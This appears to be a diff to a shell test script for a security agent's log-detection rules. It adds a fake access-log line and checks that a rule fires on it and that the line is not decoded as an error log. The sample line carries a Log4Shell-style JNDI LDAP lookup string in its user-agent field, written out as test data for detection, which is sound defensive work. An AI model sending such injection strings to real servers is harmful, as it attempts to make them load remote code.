@@ -6,6 +6,9 @@
 topology
 RULES=$(dirname "$0")/../../content/logs
 "$AGENT" logs test --self --rules "$RULES" > "$T/self" 2>&1 || fail "self-test: $(cat "$T/self")"
+echo '192.0.2.1 - - [02/Jan/2026:03:04:05 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://192.0.2.2/a}"' | tee "$T/lines" > "$T/error.txt"
+"$AGENT" logs test --rules "$RULES" "$T/lines" | grep -q 'rule 102013 ' || fail "lines of any log: $("$AGENT" logs test --rules "$RULES" "$T/lines")"
+"$AGENT" logs test --rules "$RULES" "$T/error.txt" 2> /dev/null | grep -q 'no decoder' || fail "an access line in an error log was decoded"
 mkdir -p "$T/bundle/logs" "$T/logs" && chmod 755 "$T/logs" && cp "$RULES"/*.yaml "$T/bundle/logs/"
 policy() { echo "{\"version\":$1,\"logs\":{\"mode\":\"$2\",\"level\":${3:-3},\"journal\":false,\"files\":[\"$T/logs/auth.log\"]}}" > "$T/bundle/policy.json"; }
 failed() { echo "Jan  2 03:04:05 host sshd[77]: Failed password for $1 from $2 port 4711 ssh2" >> "${3:-$T/logs/auth.log}"; }
